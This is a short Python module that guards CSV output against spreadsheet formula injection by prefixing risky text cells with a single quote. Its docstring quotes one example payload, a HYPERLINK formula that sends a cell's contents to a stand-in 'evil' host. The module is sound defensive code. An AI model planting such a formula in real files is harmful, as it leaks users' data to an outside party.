"""CSV cells safe to open in a spreadsheet (OWASP "CSV injection").

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken for a formula
by Excel, LibreOffice and Sheets (``=HYPERLINK("http://evil/?"&A1, "click")``). Such a cell gets a leading
single quote, which the spreadsheet shows as text; the csv module quotes the cell and doubles any quote in
it. A plain number written as text (``-12.5``, ``+3``) is left alone: it is no formula, and a reader of the
file still sees the number. Every CSV the project writes from outside data goes through :func:`safe_row`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]
